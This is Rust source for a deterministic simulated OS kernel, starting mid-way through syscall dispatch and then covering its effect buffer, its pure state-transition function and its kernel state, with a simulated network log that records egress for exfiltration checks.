        S::Bind { .. } | S::Listen { .. } => Ok(SyscallRet::Ok),
        S::Accept { fd: _ } => {
            let fd = state.process_mut(pid)?.install_fd(FdTarget::Socket {
                dest: String::new(),
            });
            Ok(SyscallRet::NewFd(fd))
        }
        S::Send { fd, bytes } => {
            let dest = match state.process(pid)?.fd_target(fd) {
                Some(FdTarget::Socket { dest }) => dest.clone(),
                Some(_) => return Err(Errno::Enosys.into()),
                None => return Err(Errno::Ebadf.into()),
            };
            net_send(state, fx, pid, &dest, &bytes);
            Ok(SyscallRet::Num(bytes.len() as u64))
        }
        S::Sendto { fd, dest, bytes } => {
            state.process(pid)?.fd_target(fd).ok_or(Errno::Ebadf)?;
            net_send(state, fx, pid, &dest, &bytes);
            Ok(SyscallRet::Num(bytes.len() as u64))
        }
        S::Recvfrom { fd, len } => {
            state.process(pid)?.fd_target(fd).ok_or(Errno::Ebadf)?;
            Ok(SyscallRet::Bytes(vec![0; len as usize]))
        }

        // ---------------- sync / shm ----------------
        S::Futex { .. } => Ok(SyscallRet::Ok),
        S::ShmOpen { .. } => {
            let fd = state
                .process_mut(pid)?
                .install_fd(FdTarget::Device(DeviceKind::Event));
            Ok(SyscallRet::NewFd(fd))
        }
        S::ShmUnlink { .. } => Ok(SyscallRet::Ok),

        // ---------------- misc ----------------
        S::Getrandom { len } => {
            let bytes: Vec<u8> = (0..len).map(|_| state.entropy.next_byte()).collect();
            Ok(SyscallRet::Bytes(bytes))
        }
        S::Gettimeofday | S::ClockGettime => Ok(SyscallRet::Num(state.timeline_ns(pid))),
    }
}

/// Sends `bytes` to `dest` on the simulated network: charges the copy,
/// counts GUI blits, and records egress for the exfiltration oracle.
pub(super) fn net_send(
    state: &mut KernelState,
    fx: &mut Effects,
    pid: Pid,
    dest: &str,
    bytes: &[u8],
) {
    let ns = state.cost.copy_cost(bytes.len() as u64);
    state.charge_to(fx, pid, ns);
    if dest.starts_with("gui") {
        state.display.blitted_bytes += bytes.len() as u64;
    }
    state.network.record(pid.0, dest, bytes);
}
