//! The effect vocabulary of the pure kernel core.
//!
//! [`step`](crate::core::step::step) never performs a side effect
//! directly: every externally observable consequence of a transition —
//! the commit record, virtual-time charges, metrics movements, faults,
//! filter kills — is *described* as an [`Effect`] pushed into an
//! [`Effects`] buffer. The shell ([`Kernel`](crate::Kernel)) interprets
//! the buffer after each step: it appends the [`Effect::Record`] to the
//! commit log when recording and exposes the rest to observability
//! layers. Because the state mutation itself already happened inside
//! `step`, effects are purely informational — dropping them changes
//! nothing about the state machine, which is what makes the core
//! replayable by construction.

use crate::commit::{CommitOp, CommitOutcome};
use crate::error::Fault;
use crate::metrics::Metrics;
use crate::process::Pid;
use crate::syscall::SyscallNo;

/// One metrics counter, mirroring the fields of [`Metrics`] so effect
/// streams can name the counter they moved without carrying the whole
/// struct.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Counter {
    /// [`Metrics::ipc_messages`].
    IpcMessages,
    /// [`Metrics::ipc_bytes`].
    IpcBytes,
    /// [`Metrics::copied_bytes`].
    CopiedBytes,
    /// [`Metrics::copy_ops`].
    CopyOps,
    /// [`Metrics::syscalls`].
    Syscalls,
    /// [`Metrics::filter_kills`].
    FilterKills,
    /// [`Metrics::faults`].
    Faults,
    /// [`Metrics::spawns`].
    Spawns,
    /// [`Metrics::protected_pages`].
    ProtectedPages,
    /// [`Metrics::timeline_merges`].
    TimelineMerges,
    /// [`Metrics::shm_grants`].
    ShmGrants,
    /// [`Metrics::shm_revokes`].
    ShmRevokes,
    /// [`Metrics::shm_mapped_bytes`].
    ShmMappedBytes,
    /// [`Metrics::calls_batched`].
    CallsBatched,
    /// [`Metrics::snapshot_bytes_copied`].
    SnapshotBytesCopied,
    /// [`Metrics::snapshot_objects_skipped`].
    SnapshotObjectsSkipped,
    /// [`Metrics::reaps`].
    Reaps,
}

impl Counter {
    /// Adds `delta` to the counter's field in `m`.
    pub fn apply(self, m: &mut Metrics, delta: u64) {
        *self.field_mut(m) += delta;
    }

    /// Reads the counter's current value from `m`.
    pub fn read(self, m: &Metrics) -> u64 {
        match self {
            Counter::IpcMessages => m.ipc_messages,
            Counter::IpcBytes => m.ipc_bytes,
            Counter::CopiedBytes => m.copied_bytes,
            Counter::CopyOps => m.copy_ops,
            Counter::Syscalls => m.syscalls,
            Counter::FilterKills => m.filter_kills,
            Counter::Faults => m.faults,
            Counter::Spawns => m.spawns,
            Counter::ProtectedPages => m.protected_pages,
            Counter::TimelineMerges => m.timeline_merges,
            Counter::ShmGrants => m.shm_grants,
            Counter::ShmRevokes => m.shm_revokes,
            Counter::ShmMappedBytes => m.shm_mapped_bytes,
            Counter::CallsBatched => m.calls_batched,
            Counter::SnapshotBytesCopied => m.snapshot_bytes_copied,
            Counter::SnapshotObjectsSkipped => m.snapshot_objects_skipped,
            Counter::Reaps => m.reaps,
        }
    }

    fn field_mut(self, m: &mut Metrics) -> &mut u64 {
        match self {
            Counter::IpcMessages => &mut m.ipc_messages,
            Counter::IpcBytes => &mut m.ipc_bytes,
            Counter::CopiedBytes => &mut m.copied_bytes,
            Counter::CopyOps => &mut m.copy_ops,
            Counter::Syscalls => &mut m.syscalls,
            Counter::FilterKills => &mut m.filter_kills,
            Counter::Faults => &mut m.faults,
            Counter::Spawns => &mut m.spawns,
            Counter::ProtectedPages => &mut m.protected_pages,
            Counter::TimelineMerges => &mut m.timeline_merges,
            Counter::ShmGrants => &mut m.shm_grants,
            Counter::ShmRevokes => &mut m.shm_revokes,
            Counter::ShmMappedBytes => &mut m.shm_mapped_bytes,
            Counter::CallsBatched => &mut m.calls_batched,
            Counter::SnapshotBytesCopied => &mut m.snapshot_bytes_copied,
            Counter::SnapshotObjectsSkipped => &mut m.snapshot_objects_skipped,
            Counter::Reaps => &mut m.reaps,
        }
    }
}

/// One externally observable consequence of a kernel transition.
///
/// Effects subsume every side channel the imperative kernel used to
/// drive in-line: commit-record emission, cost charges, metrics deltas,
/// and audit/trace signals (faults, filter kills).
#[derive(Debug, Clone, PartialEq)]
pub enum Effect {
    /// The transition's commit record: the op that ran and its outcome
    /// summary. Exactly one `Record` is emitted per
    /// [`step`](crate::core::step::step), always last in the buffer.
    Record {
        /// The operation that was applied.
        op: CommitOp,
        /// Its outcome summary, as the commit log records it.
        outcome: CommitOutcome,
    },
    /// `ns` of virtual time charged, attributed to `pid` (or to the
    /// ambient time context / global clock when `None`).
    Charge {
        /// Timeline the charge was attributed to, if any.
        pid: Option<Pid>,
        /// Nanoseconds charged.
        ns: u64,
    },
    /// A metrics counter moved by `delta`.
    Metric {
        /// Which counter moved.
        counter: Counter,
        /// How far it moved.
        delta: u64,
    },
    /// A process transitioned to `Crashed` with this fault. Emitted only
    /// when the transition actually happened (faults delivered to
    /// already-dead or unknown pids are absorbed silently, as before).
    Fault(Fault),
    /// A seccomp-style filter denied a syscall with kill semantics.
    FilterKill {
        /// The process that was killed.
        pid: Pid,
        /// The syscall number the filter denied.
        denied: SyscallNo,
    },
}

/// An append-only buffer of [`Effect`]s for one transition.
///
/// The shell clears it before each [`step`](crate::core::step::step) and
/// reads it afterwards; keeping the allocation alive across steps keeps
/// the hot path allocation-free.
#[derive(Debug, Default)]
pub struct Effects {
    items: Vec<Effect>,
}

impl Effects {
    /// An empty buffer.
    pub fn new() -> Effects {
        Effects::default()
    }

    /// Drops all buffered effects, keeping the allocation.
    pub fn clear(&mut self) {
        self.items.clear();
    }

    /// Number of buffered effects.
    pub fn len(&self) -> usize {
        self.items.len()
    }

    /// True when no effects are buffered.
    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }

    /// Iterates the buffered effects in emission order.
    pub fn iter(&self) -> impl Iterator<Item = &Effect> {
        self.items.iter()
    }

    /// The buffered effects as a slice, in emission order.
    pub fn as_slice(&self) -> &[Effect] {
        &self.items
    }

    pub(crate) fn push(&mut self, e: Effect) {
        self.items.push(e);
    }

    /// Removes and returns the trailing [`Effect::Record`], if present.
    /// `step` always emits it last, so the shell can move the op into
    /// the commit log without cloning.
    pub(crate) fn pop_record(&mut self) -> Option<(CommitOp, CommitOutcome)> {
        match self.items.last() {
            Some(Effect::Record { .. }) => match self.items.pop() {
                Some(Effect::Record { op, outcome }) => Some((op, outcome)),
                _ => unreachable!("checked last element"),
            },
            _ => None,
        }
    }
}
