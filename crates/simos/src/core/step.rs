//! The single total transition function of the kernel state machine.
//!
//! [`step`] takes a [`KernelState`], one [`CommitOp`], and an
//! [`Effects`] buffer, applies the transition, and returns the typed
//! result. Every kernel behavior — process lifecycle, memory
//! protection, shared memory, filters, syscall dispatch, IPC, virtual
//! time — lives behind this one function; the shell
//! ([`Kernel`](crate::Kernel)) merely translates its public entry
//! points into ops and interprets the emitted effects, and
//! [`replay`](crate::replay::replay) is literally a fold of `step` over
//! a log.
//!
//! `step` is total over its input vocabulary: it never panics on any
//! op/state combination (failures are values — [`SimError`]s or
//! delivered faults), performs no I/O, reads no ambient clock, and
//! draws no external entropy. In debug builds every transition is
//! followed by [`KernelState::check_invariants`].

use crate::commit::{err_summary, CommitOp, CommitOutcome, OpSummary};
use crate::cost::VirtualClock;
use crate::device::{Camera, WindowId};
use crate::error::{Errno, Fault, FaultKind, SimError};
use crate::filter::FilterDecision;
use crate::ipc::{ChannelId, RingChannel, RingError};
use crate::mem::{Addr, Perms, PAGE_SIZE};
use crate::process::{Pid, ProcessState, SimProcess};
use crate::shm::{ShmId, ShmSegment};
use crate::syscall::SyscallRet;

use super::dispatch::dispatch;
use super::effects::{Counter, Effect, Effects};
use super::state::{KernelState, TimelineMode};

/// The typed value a successful transition produces — one variant per
/// return shape of the shell's public entry points. Its [`OpSummary`]
/// impl delegates to the inner value's, so outcome summaries are
/// bit-identical with what the imperative kernel recorded.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum StepValue {
    /// No interesting value (summary 0).
    Unit,
    /// A plain number (page counts, byte lengths).
    Num(u64),
    /// A process id (spawn).
    Proc(Pid),
    /// An optional process id (previous time context).
    ProcOpt(Option<Pid>),
    /// An address (alloc).
    Addr(Addr),
    /// A boolean (revoke/destroy/force-exit "did anything happen").
    Flag(bool),
    /// A shared-memory segment id.
    Seg(ShmId),
    /// An IPC channel id.
    Chan(ChannelId),
    /// An optional received payload (ipc_recv).
    PayloadOpt(Option<Vec<u8>>),
    /// An optional GUI key press.
    KeyOpt(Option<u8>),
    /// A GUI window id.
    Win(WindowId),
    /// A delivered fault (deliver_fault is infallible).
    Crash(Fault),
    /// A syscall return value.
    Ret(SyscallRet),
}

impl OpSummary for StepValue {
    fn summary(&self) -> u64 {
        match self {
            StepValue::Unit => ().summary(),
            StepValue::Num(n) => n.summary(),
            StepValue::Proc(pid) => pid.summary(),
            StepValue::ProcOpt(pid) => pid.summary(),
            StepValue::Addr(a) => a.summary(),
            StepValue::Flag(b) => b.summary(),
            StepValue::Seg(id) => id.summary(),
            StepValue::Chan(id) => id.summary(),
            StepValue::PayloadOpt(b) => b.summary(),
            StepValue::KeyOpt(k) => k.summary(),
            StepValue::Win(id) => id.summary(),
            StepValue::Crash(f) => f.summary(),
            StepValue::Ret(r) => r.summary(),
        }
    }
}

/// What one [`step`] produced: a typed value or a typed error.
pub type StepResult = Result<StepValue, SimError>;

/// The commit-log outcome summary of a [`StepResult`] — the same
/// summarization path the recorder uses, so core and shell cannot
/// drift.
pub fn outcome_of_step(r: &StepResult) -> CommitOutcome {
    match r {
        Ok(v) => CommitOutcome::Ok(v.summary()),
        Err(e) => CommitOutcome::Err(err_summary(e)),
    }
}

/// Applies one transition to `state`, pushing every observable
/// consequence into `fx` (ending with exactly one [`Effect::Record`])
/// and returning the typed result.
pub fn step(state: &mut KernelState, op: CommitOp, fx: &mut Effects) -> StepResult {
    let r = apply(state, &op, fx);
    let outcome = outcome_of_step(&r);
    fx.push(Effect::Record { op, outcome });
    #[cfg(debug_assertions)]
    state.check_invariants();
    r
}

/// Crashes `pid` with a fault, if it exists and is running; returns the
/// fault either way (delivery to the already-dead is absorbed). The
/// core-internal form of the shell's `deliver_fault`: faults raised
/// *inside* another op (a denied write, a filter kill) go through here
/// and stay part of that op's single record.
pub(super) fn crash(
    state: &mut KernelState,
    fx: &mut Effects,
    pid: Pid,
    kind: FaultKind,
    addr: Option<Addr>,
) -> Fault {
    let fault = Fault { pid, kind, addr };
    if let Some(p) = state.procs.get_mut(&pid) {
        if p.is_running() {
            p.state = ProcessState::Crashed(fault.clone());
            state.bump(fx, Counter::Faults, 1);
            fx.push(Effect::Fault(fault.clone()));
        }
    }
    fault
}

#[allow(clippy::too_many_lines)]
fn apply(state: &mut KernelState, op: &CommitOp, fx: &mut Effects) -> StepResult {
    use CommitOp as O;
    match op {
        // ---------------- process lifecycle ----------------
        O::Spawn { name } => {
            let pid = Pid(state.next_pid);
            state.next_pid += 1;
            state.procs.insert(pid, SimProcess::new(pid, name));
            let ns = state.cost.spawn_ns;
            state.charge_ctx(fx, ns);
            if state.mode == TimelineMode::PerProcess {
                // The child exists once the spawner has paid the spawn
                // cost: its timeline starts at the spawner's current time.
                let birth = match state.time_ctx {
                    Some(p) => state.timeline_ns(p),
                    None => state.clock.now_ns(),
                };
                let mut c = VirtualClock::new();
                c.charge(birth);
                state.timelines.insert(pid, c);
            }
            state.bump(fx, Counter::Spawns, 1);
            Ok(StepValue::Proc(pid))
        }
        O::DeliverFault { pid, kind, addr } => Ok(StepValue::Crash(crash(
            state,
            fx,
            *pid,
            kind.clone(),
            *addr,
        ))),
        O::Reap { pid } => {
            let pid = *pid;
            let p = state.procs.get(&pid).ok_or(SimError::NoSuchProcess(pid))?;
            if p.is_running() {
                return Err(SimError::Errno(Errno::Eperm));
            }
            let pages = p.aspace.mapped_bytes() / PAGE_SIZE;
            state.procs.remove(&pid);
            for seg in state.shm.values_mut() {
                seg.purge(pid);
            }
            state.bump(fx, Counter::Reaps, 1);
            Ok(StepValue::Num(pages))
        }
        O::ForceExit { pid, code } => {
            let changed = match state.procs.get_mut(pid) {
                Some(p) if p.is_running() => {
                    p.state = ProcessState::Exited(*code);
                    true
                }
                _ => false,
            };
            Ok(StepValue::Flag(changed))
        }
        O::SetNoNewPrivs { pid } => {
            let p = state
                .procs
                .get_mut(pid)
                .ok_or(SimError::NoSuchProcess(*pid))?;
            p.no_new_privs = true;
            Ok(StepValue::Unit)
        }

        // ---------------- memory ----------------
        O::Alloc { pid, len, perms } => {
            state.require_running(*pid)?;
            let addr = state.process_mut(*pid)?.aspace.alloc(*len, *perms);
            Ok(StepValue::Addr(addr))
        }
        O::MemWrite { pid, addr, bytes } => {
            let (pid, addr) = (*pid, *addr);
            state.require_running(pid)?;
            let p = state.procs.get_mut(&pid).expect("checked");
            match p.aspace.write(addr, bytes) {
                Ok(()) => Ok(StepValue::Unit),
                Err(kind) => Err(crash(state, fx, pid, kind, Some(addr)).into()),
            }
        }
        O::Protect {
            pid,
            addr,
            len,
            perms,
        } => {
            let pid = *pid;
            state.require_running(pid)?;
            let p = state.procs.get_mut(&pid).expect("checked");
            match p.aspace.protect(*addr, *len, *perms) {
                Ok(changed) => {
                    if changed > 0 {
                        let ns = state.cost.mprotect_cost(changed);
                        state.charge_to(fx, pid, ns);
                        state.bump(fx, Counter::ProtectedPages, changed);
                    }
                    Ok(StepValue::Num(changed))
                }
                Err(_) => Err(SimError::Errno(Errno::Einval)),
            }
        }

        // ---------------- shared memory ----------------
        O::ShmCreate { owner, bytes } => {
            let owner = *owner;
            state.require_running(owner)?;
            let id = ShmId(state.next_shm);
            state.next_shm += 1;
            let len = bytes.len() as u64;
            let mut seg = ShmSegment::new(bytes.clone());
            seg.grants.insert(owner, Perms::RW);
            seg.mapped.insert(owner);
            state.shm.insert(id, seg);
            let ns = state.cost.syscall_ns + state.cost.shm_map_cost(len);
            state.charge_to(fx, owner, ns);
            state.bump(fx, Counter::ShmGrants, 1);
            state.bump(fx, Counter::ShmMappedBytes, len);
            Ok(StepValue::Seg(id))
        }
        O::ShmGrant { id, pid, perms } => {
            let pid = *pid;
            state.require_running(pid)?;
            let seg = state.shm.get_mut(id).ok_or(SimError::Errno(Errno::Ebadf))?;
            seg.grants.insert(pid, *perms);
            let ns = state.cost.syscall_ns;
            state.charge_to(fx, pid, ns);
            state.bump(fx, Counter::ShmGrants, 1);
            Ok(StepValue::Unit)
        }
        O::ShmMap { pid, id } => {
            let pid = *pid;
            state.require_running(pid)?;
            let seg = state.shm.get_mut(id).ok_or(SimError::Errno(Errno::Ebadf))?;
            if !seg.grants.contains_key(&pid) {
                return Err(SimError::Errno(Errno::Eacces));
            }
            let len = seg.len();
            if seg.mapped.insert(pid) {
                let ns = state.cost.syscall_ns + state.cost.shm_map_cost(len);
                state.charge_to(fx, pid, ns);
                state.bump(fx, Counter::ShmMappedBytes, len);
            } else {
                let ns = state.cost.syscall_ns;
                state.charge_to(fx, pid, ns);
            }
            Ok(StepValue::Num(len))
        }
        O::ShmRevoke { id, pid } => {
            let seg = state.shm.get_mut(id).ok_or(SimError::Errno(Errno::Ebadf))?;
            let existed = seg.grants.remove(pid).is_some();
            seg.mapped.remove(pid);
            if existed {
                let pages = seg.len().div_ceil(PAGE_SIZE).max(1);
                let ns = state.cost.mprotect_cost(pages);
                state.charge_ctx(fx, ns);
                state.bump(fx, Counter::ShmRevokes, 1);
            }
            Ok(StepValue::Flag(existed))
        }
        O::ShmProtectAll { id, perms } => {
            let seg = state.shm.get_mut(id).ok_or(SimError::Errno(Errno::Ebadf))?;
            let pages = seg.len().div_ceil(PAGE_SIZE).max(1);
            let mut changed = 0;
            for p in seg.grants.values_mut() {
                if *p != *perms {
                    *p = *perms;
                    changed += pages;
                }
            }
            if changed > 0 {
                let ns = state.cost.mprotect_cost(changed);
                state.charge_ctx(fx, ns);
                state.bump(fx, Counter::ProtectedPages, changed);
            }
            Ok(StepValue::Num(changed))
        }
        O::ShmWrite { pid, id, bytes } => {
            let pid = *pid;
            state.require_running(pid)?;
            let Some(seg) = state.shm.get(id) else {
                return Err(crash(state, fx, pid, FaultKind::Unmapped, None).into());
            };
            let ok = seg.is_mapped(pid) && seg.grant_of(pid).is_some_and(|p| p.writable());
            if !ok {
                return Err(crash(state, fx, pid, FaultKind::Protection, None).into());
            }
            let seg = state.shm.get_mut(id).expect("checked");
            seg.replace_data(bytes);
            Ok(StepValue::Unit)
        }
        O::ShmDestroy { id } => Ok(StepValue::Flag(state.shm.remove(id).is_some())),

        // ---------------- filters and syscalls ----------------
        O::InstallFilter { pid, filter } => {
            let pid = *pid;
            state.require_running(pid)?;
            let p = state.procs.get_mut(&pid).expect("checked");
            if p.no_new_privs {
                return Err(SimError::Errno(Errno::Eperm));
            }
            p.filter = Some(filter.clone());
            Ok(StepValue::Unit)
        }
        O::Syscall { pid, call } => {
            let pid = *pid;
            state.require_running(pid)?;
            // Filter check (seccomp runs before the syscall body).
            let decision = state
                .procs
                .get(&pid)
                .expect("checked")
                .filter
                .as_ref()
                .map_or(FilterDecision::Allow, |f| f.evaluate(call));
            if decision == FilterDecision::Kill {
                state.bump(fx, Counter::FilterKills, 1);
                fx.push(Effect::FilterKill {
                    pid,
                    denied: call.number(),
                });
                let fault = crash(
                    state,
                    fx,
                    pid,
                    FaultKind::SyscallDenied(call.number()),
                    None,
                );
                return Err(fault.into());
            }
            let ns = state.cost.syscall_ns;
            state.charge_to(fx, pid, ns);
            state.bump(fx, Counter::Syscalls, 1);
            dispatch(state, fx, pid, call.clone()).map(StepValue::Ret)
        }

        // ---------------- IPC ----------------
        O::CreateChannel { a, b, capacity } => {
            state.require_running(*a)?;
            state.require_running(*b)?;
            let id = ChannelId(state.next_channel);
            state.next_channel += 1;
            state
                .channels
                .insert(id, RingChannel::new(*a, *b, *capacity));
            Ok(StepValue::Chan(id))
        }
        O::IpcSend { pid, chan, payload } => {
            let pid = *pid;
            state.require_running(pid)?;
            let latency = state.cost.ipc_latency_ns();
            let copy = state.cost.copy_cost(payload.len() as u64);
            // The frame is stamped with the sender's virtual time *after*
            // the charges below complete, so a receiver on its own
            // timeline merges against the true completion of the send.
            let send_ns = state.timeline_ns(pid) + latency + copy;
            let channel = state.channels.get_mut(chan).ok_or(SimError::BadChannel)?;
            channel
                .send(pid, bytes::Bytes::copy_from_slice(payload), send_ns)
                .map_err(|e| match e {
                    RingError::Full => SimError::Errno(Errno::Enospc),
                    RingError::NotEndpoint => SimError::BadChannel,
                })?;
            state.charge_to(fx, pid, latency);
            state.charge_to(fx, pid, copy);
            state.bump(fx, Counter::IpcMessages, 1);
            state.bump(fx, Counter::IpcBytes, payload.len() as u64);
            Ok(StepValue::Unit)
        }
        O::IpcRecv { pid, chan } => {
            let pid = *pid;
            state.require_running(pid)?;
            let latency = state.cost.ipc_latency_ns();
            let channel = state.channels.get_mut(chan).ok_or(SimError::BadChannel)?;
            match channel.try_recv(pid) {
                Ok(Some(frame)) => {
                    if state.mode == TimelineMode::PerProcess {
                        let t = state.timelines.entry(pid).or_default();
                        if frame.send_ns > t.now_ns() {
                            let delta = frame.send_ns - t.now_ns();
                            t.charge(delta);
                            state.bump(fx, Counter::TimelineMerges, 1);
                        }
                    }
                    state.charge_to(fx, pid, latency);
                    Ok(StepValue::PayloadOpt(Some(frame.payload.to_vec())))
                }
                Ok(None) => Ok(StepValue::PayloadOpt(None)),
                Err(_) => Err(SimError::BadChannel),
            }
        }
        O::RebindChannel { chan, new_b } => {
            let channel = state.channels.get_mut(chan).ok_or(SimError::BadChannel)?;
            channel.rebind_b(*new_b);
            Ok(StepValue::Unit)
        }

        // ---------------- accounting ----------------
        O::ChargeTime { ns } => {
            state.charge_ctx(fx, *ns);
            Ok(StepValue::Unit)
        }
        O::ChargeCopy { bytes } => {
            let ns = state.cost.copy_cost(*bytes);
            state.charge_ctx(fx, ns);
            state.bump(fx, Counter::CopiedBytes, *bytes);
            state.bump(fx, Counter::CopyOps, 1);
            Ok(StepValue::Unit)
        }
        O::ChargeCompute { pid, units } => {
            let ns = state.cost.compute_cost(*units);
            state.charge_to(fx, *pid, ns);
            if let Some(p) = state.procs.get_mut(pid) {
                p.cpu_ns += ns;
            }
            Ok(StepValue::Unit)
        }
        O::NoteCallsBatched { n } => {
            state.bump(fx, Counter::CallsBatched, *n);
            Ok(StepValue::Unit)
        }
        O::NoteSnapshotCopy { bytes } => {
            state.bump(fx, Counter::SnapshotBytesCopied, *bytes);
            Ok(StepValue::Unit)
        }
        O::NoteSnapshotSkip => {
            state.bump(fx, Counter::SnapshotObjectsSkipped, 1);
            Ok(StepValue::Unit)
        }
        O::ResetAccounting => {
            state.clock.reset();
            for t in state.timelines.values_mut() {
                t.reset();
            }
            state.metrics = crate::Metrics::new();
            Ok(StepValue::Unit)
        }

        // ---------------- virtual time ----------------
        O::EnablePerProcessTime => {
            if state.mode == TimelineMode::PerProcess {
                return Ok(StepValue::Unit);
            }
            state.mode = TimelineMode::PerProcess;
            let now = state.clock.now_ns();
            for pid in state.procs.keys().copied().collect::<Vec<_>>() {
                let mut c = VirtualClock::new();
                c.charge(now);
                state.timelines.insert(pid, c);
            }
            Ok(StepValue::Unit)
        }
        O::SetTimeContext { pid } => {
            let prev = std::mem::replace(&mut state.time_ctx, *pid);
            Ok(StepValue::ProcOpt(prev))
        }
        O::AdvanceTimeline { pid, ns } => {
            if state.mode == TimelineMode::PerProcess {
                let t = state.timelines.entry(*pid).or_default();
                if *ns > t.now_ns() {
                    let delta = *ns - t.now_ns();
                    t.charge(delta);
                    state.bump(fx, Counter::TimelineMerges, 1);
                }
            }
            Ok(StepValue::Unit)
        }

        // ---------------- harness seeding and GUI ----------------
        O::FsPut { path, bytes } => {
            state.fs.put(path, bytes.clone());
            Ok(StepValue::Unit)
        }
        O::AttachCamera { seed, frame_len } => {
            state.camera = Some(Camera::new(*seed, *frame_len));
            Ok(StepValue::Unit)
        }
        O::WinCreate { title } => Ok(StepValue::Win(state.display.create_window(title))),
        O::WinPresent { win, frame_len } => {
            Ok(StepValue::Flag(state.display.present(*win, *frame_len)))
        }
        O::WinDestroyAll => {
            state.display.destroy_all();
            Ok(StepValue::Unit)
        }
        O::WinPollKey => Ok(StepValue::KeyOpt(state.display.poll_key())),
        O::PushKey { key } => {
            state.display.push_key(*key);
            Ok(StepValue::Unit)
        }
    }
}
