//! The pure kernel core: a state machine with no I/O, no ambient
//! clock, and no external entropy.
//!
//! This module is the verification target of simos. It has three
//! parts:
//!
//! * [`state::KernelState`] — every piece of kernel state (processes,
//!   address spaces, shm segments, filters, channels, devices, virtual
//!   clocks, metrics) as plain data, with a canonical
//!   [`digest`](state::KernelState::digest) and machine-checked
//!   [`invariants`](state::KernelState::check_invariants).
//! * [`step::step`] — the single total transition function. Every
//!   kernel behavior is an arm of one `match` over
//!   [`CommitOp`](crate::commit::CommitOp); there is no other way to
//!   mutate a `KernelState`.
//! * [`effects::Effect`] — the vocabulary of observable consequences
//!   (commit records, time charges, metrics deltas, faults, filter
//!   kills) that `step` describes instead of performing.
//!
//! The shell ([`Kernel`](crate::Kernel)) wraps a `KernelState`,
//! translates its public entry points into ops, folds them through
//! `step`, and interprets the effects — appending records to the
//! commit log when recording. Replay is the same fold without a shell.
//!
//! A CI guard keeps this module honest: any reference to the standard
//! library's time, filesystem, or network facilities — or to any
//! entropy source — inside `core/` fails the build.

pub mod effects;
pub mod state;
pub mod step;

mod dispatch;

pub use effects::{Counter, Effect, Effects};
pub use state::{KernelState, TimelineMode};
pub use step::{outcome_of_step, step, StepResult, StepValue};
