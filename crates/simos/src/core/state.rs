//! [`KernelState`]: the complete kernel state as plain data.
//!
//! Everything the simulated OS knows — processes and their address
//! spaces, syscall filters, fd tables, shared-memory segments and grant
//! tables, IPC channels, the file system, devices, the virtual clock(s),
//! metrics, and the deterministic entropy stream — lives in this one
//! struct. It has no ambient clock, does no I/O, and draws no external
//! entropy: two `KernelState`s built from the same cost model and walked
//! through the same [`step`](crate::core::step::step) sequence are
//! bit-identical, which is what [`KernelState::digest`] certifies.

use std::collections::BTreeMap;

use crate::commit::{self, OpSummary};
use crate::cost::{CostModel, VirtualClock};
use crate::device::{Camera, Display, NetworkLog};
use crate::error::{SimError, SimResult};
use crate::filter::SyscallFilter;
use crate::fs::SimFs;
use crate::ipc::{ChannelId, RingChannel};
use crate::mem::{Addr, Perms, PAGE_SIZE};
use crate::process::{FdTarget, Pid, ProcessState, SimProcess};
use crate::shm::{ShmId, ShmSegment};
use crate::Metrics;

use super::effects::{Counter, Effect, Effects};

/// How virtual time flows through the kernel.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum TimelineMode {
    /// One global clock; every charge serializes (the classic model).
    #[default]
    Global,
    /// One [`VirtualClock`] per process, merged on message delivery.
    /// Concurrent work on different processes overlaps in virtual time;
    /// the run's makespan is [`KernelState::makespan_ns`].
    PerProcess,
}

/// The kernel's deterministic entropy stream: splitmix64 seed expansion
/// feeding xoshiro256**, exactly the generator the shell used to own.
/// Inlined here (rather than depending on an external generator crate)
/// so the pure core has no dependency that could smuggle in ambient
/// entropy — and so `Getrandom` byte streams stay bit-identical with
/// recordings made before the core/shell split.
#[derive(Debug, Clone)]
pub(crate) struct EntropyStream {
    s: [u64; 4],
}

impl EntropyStream {
    /// Expands `seed` into the full generator state via splitmix64.
    pub(crate) fn seeded(seed: u64) -> EntropyStream {
        let mut x = seed;
        let mut next = move || {
            x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
            let mut z = x;
            z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
            z ^ (z >> 31)
        };
        EntropyStream {
            s: [next(), next(), next(), next()],
        }
    }

    fn next_u64(&mut self) -> u64 {
        let result = self.s[1].wrapping_mul(5).rotate_left(7).wrapping_mul(9);
        let t = self.s[1] << 17;
        self.s[2] ^= self.s[0];
        self.s[3] ^= self.s[1];
        self.s[1] ^= self.s[2];
        self.s[0] ^= self.s[3];
        self.s[2] ^= t;
        self.s[3] = self.s[3].rotate_left(45);
        result
    }

    /// One byte of the stream (the low byte of the next word, matching
    /// the previous generator's `u8` draw).
    pub(crate) fn next_byte(&mut self) -> u8 {
        self.next_u64() as u8
    }
}

/// The seed every kernel starts from; part of the determinism contract
/// (two pristine kernels produce identical `Getrandom` streams).
const ENTROPY_SEED: u64 = 0x5eed;

/// The complete simulated-kernel state as plain data.
///
/// All transitions go through the single total function
/// [`step`](crate::core::step::step); this struct only offers
/// constructors, pure reads, and the [`digest`](KernelState::digest).
/// The shell [`Kernel`](crate::Kernel) derefs to `KernelState`, so every
/// read here is also available on the kernel handle.
pub struct KernelState {
    pub(crate) procs: BTreeMap<Pid, SimProcess>,
    pub(crate) next_pid: u32,
    pub(crate) channels: BTreeMap<ChannelId, RingChannel>,
    pub(crate) next_channel: u32,
    /// The in-memory file system (public for harness seeding/inspection).
    pub fs: SimFs,
    /// Attached camera, if the workload uses one.
    pub camera: Option<Camera>,
    /// The GUI display subsystem.
    pub display: Display,
    /// Network egress log (exfiltration oracle).
    pub network: NetworkLog,
    pub(crate) clock: VirtualClock,
    pub(crate) mode: TimelineMode,
    /// Per-process timelines (populated in [`TimelineMode::PerProcess`]).
    pub(crate) timelines: BTreeMap<Pid, VirtualClock>,
    /// The process charged for pid-less costs (spawn, raw copies) under
    /// per-process time; `None` falls back to the global clock.
    pub(crate) time_ctx: Option<Pid>,
    pub(crate) cost: CostModel,
    pub(crate) metrics: Metrics,
    pub(crate) entropy: EntropyStream,
    /// Kernel-owned shared-memory segments (see [`crate::shm`]).
    pub(crate) shm: BTreeMap<ShmId, ShmSegment>,
    pub(crate) next_shm: u64,
}

impl Default for KernelState {
    fn default() -> Self {
